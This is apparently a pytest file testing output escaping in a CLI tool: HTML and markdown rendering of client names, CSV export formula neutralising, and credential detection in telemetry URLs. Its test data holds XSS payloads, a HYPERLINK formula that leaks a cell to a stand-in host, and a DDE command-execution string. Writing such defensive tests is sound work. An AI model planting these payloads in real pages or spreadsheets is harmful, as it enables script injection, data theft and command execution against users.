"""What clients call themselves, where people read it; and credentials where a file must not have them."""

import csv
import io

import pytest

from bascule.cli.page import Grid, Section, Tile, page
from bascule.cli.render import csv_text, markdown_table
from bascule.config.load import load_text
from bascule.offline.export import export

NAMES = (
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "'-alert(1)-'",
)
FORMULAS = ('=HYPERLINK("http://x/"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\t=1")


@pytest.mark.parametrize("name", NAMES)
def test_no_name_becomes_markup(name: str) -> None:
    grid = Grid(columns=("key", name), rows=((name, name),), text=frozenset({"key", name}))
    shown = page(name, name, [Tile(name, name)], [Section(heading=name, grid=grid, notes=(name,))])
    for text in (shown, markdown_table(("key", name), [(name, name)])):
        assert "<script" not in text
        assert "<img" not in text
        assert "<svg" not in text


@pytest.mark.parametrize("name", FORMULAS)
def test_no_name_becomes_a_formula(name: str) -> None:
    out = io.StringIO(newline="")
    export([{"session": name, "cost": "-0.25", "tags": {"a": name}}], ("session", "cost", "tags"), "csv", out)
    for text in (out.getvalue(), csv_text([{"session": name, "cost": "-0.25"}], ("session", "cost"))):
        (row,) = csv.DictReader(io.StringIO(text, newline=""))
        assert row["session"] == "'" + name
        assert row["cost"] == "-0.25"


@pytest.mark.parametrize(
    "at", ["https://user:{}@otel.example", "https://otel.example/?key={}", "https://{}@otel.example"]
)
def test_a_collector_s_address_holds_no_credential(at: str) -> None:
    secret = "a-literal-secret-0123456789"
    text = f"telemetry: {{otlp: {{endpoint: '{at.format(secret)}'}}}}\n"
    problems = load_text(text).problems
    assert [one.where for one in problems if "telemetry.otlp.endpoint" in one.what] != []
    assert secret not in str(problems)
